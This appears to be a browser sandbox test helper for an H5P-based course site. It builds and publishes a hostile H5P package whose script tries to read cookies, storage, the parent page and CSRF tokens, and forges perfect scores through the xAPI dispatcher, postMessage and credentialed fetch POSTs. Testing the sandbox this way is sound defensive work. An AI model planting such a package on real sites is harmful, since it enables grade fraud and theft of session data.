"""A hostile H5P package for the sandbox test, installed in the demo server's database.

The package is a normal Aula.Question package whose library script is replaced
by one that still defines `Aula.Question` (so the player runs it) but, once
attached, tries to reach what a package must never reach: the site's cookies
and storage, the lesson page, a CSRF token, and a perfect score sent straight
to the server or forged through the player. It reports what it saw with
`console.log("HOSTILE " + JSON.stringify(findings))`.

Run inside the server's environment:
`manage.py shell -c "from tests.browser.hostile_h5p import install; install()"`,
which prints one line `HOSTILE-INSTALLED {json}` with the activity's id and where it is.
"""

import json
import sys

from courses.h5p.builder import LIBRARY_FOLDER, build_package

TITLE = "Actividad de prueba hostil"
COURSE_SLUG = "movilidad-humana-en-el-pdot"
LESSON_SLUG = "marco-normativo"
# A key the lesson page's origin stores; the package must not see it.
PROBE_KEY = "aula-test-probe"
# The score the package claims; the activity's real maximum is 1.
FORGED_SCORE = 100
# A page only signed-in people see, asked for by the package with "credentials: include".
SESSION_PROBE = "/aprendizaje/?sonda=paquete"

HOSTILE_JS = r"""
(function (window, document) {
  'use strict';

  var COURSE = __COURSE__;
  var STEP = __STEP__;
  var PROBE_KEY = __PROBE_KEY__;
  var FORGED = __FORGED__;
  var SESSION_PROBE = __SESSION_PROBE__;
  var findings = {};
  var attacked = false;

  function attempt(name, action) {
    try {
      findings[name] = {ok: true, value: action()};
    } catch (error) {
      findings[name] = {ok: false, error: String(error && error.name), message: String(error)};
    }
  }

  function config() {
    return JSON.parse(document.getElementById('h5p-config').textContent);
  }

  function activityId() {
    return Number(String(config().id).replace('aula-', ''));
  }

  function activityIri() {
    var integration = window.H5PIntegration || {};
    var contents = integration.contents || {};
    var content = contents['cid-' + config().id];
    return (content && content.url) || config().xAPIObjectIRI;
  }

  function forgedStatement(how) {
    return {
      actor: {name: 'Someone else', mbox: 'mailto:someone@example.org', objectType: 'Agent'},
      verb: {id: 'http://adlnet.gov/expapi/verbs/answered', display: {'en-US': 'answered'}},
      object: {id: activityIri(), objectType: 'Activity'},
      result: {
        score: {min: 0, raw: FORGED, max: FORGED, scaled: 1},
        success: true,
        completion: true,
        response: how
      }
    };
  }

  function report() {
    console.log('HOSTILE ' + JSON.stringify(findings));
  }

  function storageReport(name) {
    var storage = window[name];
    var keys = [];
    for (var i = 0; i < storage.length; i++) {
      keys.push(storage.key(i));
    }
    return {
      isRealStorage: typeof Storage !== 'undefined' && storage instanceof Storage,
      probe: storage.getItem(PROBE_KEY),
      keys: keys
    };
  }

  function attack() {
    if (attacked) {
      return;
    }
    attacked = true;
    findings.origin = String(window.origin);
    attempt('cookie', function () { return document.cookie; });
    attempt('topBody', function () { return window.top.document.body.innerHTML.length; });
    attempt('parentDocument', function () { return String(window.parent.document.title); });
    attempt('csrfOwn', function () {
      var field = document.querySelector('[name=csrfmiddlewaretoken]');
      return field ? field.value : null;
    });
    attempt('csrfParent', function () {
      var field = window.parent.document.querySelector('[name=csrfmiddlewaretoken]');
      return field ? field.value : null;
    });
    attempt('playersParent', function () {
      return window.parent.document.getElementById('h5p-players').textContent;
    });
    attempt('localStorage', function () { return storageReport('localStorage'); });
    attempt('sessionStorage', function () { return storageReport('sessionStorage'); });
    attempt('topLocalStorage', function () { return window.top.localStorage.getItem(PROBE_KEY); });
    attempt('dispatcher', function () {
      var statement = forgedStatement('dispatcher');
      var event;
      if (window.H5P && H5P.XAPIEvent) {
        event = new H5P.XAPIEvent();
        event.data.statement = statement;
      } else {
        event = new H5P.Event('xAPI', {statement: statement});
      }
      H5P.externalDispatcher.trigger(event);
      return 'triggered';
    });
    attempt('postMessage', function () {
      window.parent.postMessage(
        {type: 'aula-h5p', kind: 'xapi', statement: forgedStatement('postMessage')}, '*'
      );
      return 'posted';
    });

    var url = '/aprendizaje/cursos/' + COURSE + '/pasos/' + STEP + '/h5p/' + activityId() +
      '/resultados/';
    findings.resultsUrl = url;
    var payload = JSON.stringify({statements: [forgedStatement('fetch')]});
    var form = new URLSearchParams();
    form.append('payload', payload);
    var requests = [
      ['fetchJson', fetch(url, {
        method: 'POST',
        credentials: 'include',
        headers: {'Content-Type': 'application/json'},
        body: payload
      })],
      // A "simple" request: no preflight, so it does reach the server.
      ['fetchForm', fetch(url, {
        method: 'POST',
        mode: 'no-cors',
        credentials: 'include',
        body: form
      })],
      // Is there a session? A page for signed-in people answers with a redirect if not.
      ['fetchSession', fetch(SESSION_PROBE, {mode: 'no-cors', credentials: 'include'})]
    ].map(function (pair) {
      return pair[1].then(function (response) {
        return response.text().then(function (text) {
          findings[pair[0]] = {
            ok: true, status: response.status, type: response.type, body: text.slice(0, 200)
          };
        });
      }, function (error) {
        findings[pair[0]] = {ok: false, error: String(error && error.name), message: String(error)};
      });
    });
    Promise.all(requests).then(report, report);
  }

  // The player relays xAPI once it is running: attack only when its listener is there.
  var dispatcher = window.H5P && H5P.externalDispatcher;
  if (dispatcher && typeof dispatcher.on === 'function') {
    var on = dispatcher.on;
    dispatcher.on = function (type) {
      var result = on.apply(this, arguments);
      if (type === 'xAPI') {
        setTimeout(attack, 0);
      }
      return result;
    };
  }

  function Question(params, contentId) {
    this.contentId = contentId;
  }
  Question.prototype.attach = function ($container) {
    var root = $container && $container.get ? $container.get(0) : $container;
    root.textContent = 'Una actividad cualquiera.';
    // Should the player never listen, attack anyway: the findings must be reported.
    setTimeout(attack, 5000);
  };
  Question.prototype.getScore = function () { return FORGED; };
  Question.prototype.getMaxScore = function () { return FORGED; };

  var Aula = window.Aula = window.Aula || {};
  Aula.Question = Question;
})(window, document);
"""


def hostile_script(*, course_id: int, step_id: int) -> bytes:
    script = (
        HOSTILE_JS.replace("__COURSE__", str(course_id))
        .replace("__STEP__", str(step_id))
        .replace("__PROBE_KEY__", json.dumps(PROBE_KEY))
        .replace("__FORGED__", str(FORGED_SCORE))
        .replace("__SESSION_PROBE__", json.dumps(SESSION_PROBE))
    )
    return script.encode()


def hostile_package(*, course_id: int, step_id: int) -> bytes:
    return build_package(
        title=TITLE,
        question="¿Qué responde?",
        options=[("Sí", True), ("No", False)],
        extra_files={
            f"{LIBRARY_FOLDER}/question.js": hostile_script(course_id=course_id, step_id=step_id)
        },
    )


def install():
    """Create the hostile activity (max score 1) at the end of lesson 2, published."""
    from django.core.files.base import ContentFile

    from courses.h5p import activities
    from courses.models import CoursePage, H5PActivity, LessonPage

    course = CoursePage.objects.get(slug=COURSE_SLUG)
    lesson = LessonPage.objects.child_of(course).get(slug=LESSON_SLUG)
    activity = H5PActivity.objects.filter(title=TITLE).first()
    if activity is None:
        package = ContentFile(
            hostile_package(course_id=course.pk, step_id=lesson.pk), name="hostil.h5p"
        )
        key = activities.new_key()
        info = activities.unpack(package, key)
        activity = H5PActivity(title=TITLE, max_score=1)
        activities.apply_package(activity, info, key)
        activity.package.save(package.name, package, save=False)
        activity.save()
    body = list(lesson.body.raw_data)
    if not any(
        block["type"] == "h5p" and block["value"].get("activity") == activity.pk for block in body
    ):
        body.append({"type": "h5p", "value": {"activity": activity.pk, "requirement": "none"}})
        lesson.body = json.dumps(body)
        lesson.save_revision().publish()
    where = {"activity": activity.pk, "course": course.pk, "step": lesson.pk}
    sys.stdout.write(f"HOSTILE-INSTALLED {json.dumps(where)}\n")
